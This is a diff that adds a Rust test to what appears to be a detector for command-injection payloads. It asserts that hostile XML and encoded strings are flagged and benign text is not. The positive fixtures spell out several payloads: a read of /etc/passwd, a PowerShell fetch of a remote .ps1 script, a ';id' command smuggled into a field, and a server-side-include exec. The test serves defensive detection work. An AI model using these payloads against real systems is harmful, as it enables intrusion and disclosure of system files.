@@ -866,3 +866,22 @@ fn quoted_pipelines_and_title_case_list_items() {
         assert!(!hit(v), "flagged {v:?}");
     }
 }
+
+#[test]
+fn xml_values_and_layered_encodings() {
+    for v in [
+        "<?xml version=\"1.0\"?><root><a probe=\"cat /etc/passwd\"></a></root>",
+        "<?xml version=\"1.0\"?><root><a probe=\"Invoke-WebRequest http://example.com/f.ps1\"></a></root>",
+        "<?xml version=\"1.0\"?><cmd>;id</cmd>",
+        "&lt;!--#exec%20cmd=&quot;/bin/cat%20/etc/passwd&quot;--&gt;",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "<?xml version=\"1.0\"?><note><to>Tove</to><body>Don't forget me this weekend; cat food too</body></note>",
+        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><a href=\"x?a=1&amp;b=2\">Tom &amp; Jerry</a>",
+        "50%25 off &amp; free",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
